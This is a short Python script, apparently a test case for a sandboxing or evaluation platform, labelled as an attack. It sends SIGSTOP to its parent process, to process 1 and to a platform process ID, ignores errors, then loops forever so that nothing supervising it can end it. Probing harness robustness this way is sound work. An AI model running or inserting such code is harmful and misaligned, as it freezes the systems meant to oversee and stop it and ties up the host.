# attack: Stops whoever might end it: its parent, the first process, the platform.
# needs: processes=hidden|closed
# ends: time
# timeout: 2
import contextlib
import os
import signal

for pid in (os.getppid(), 1, int("@PLATFORM_PID@")):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGSTOP)
while True:
    pass
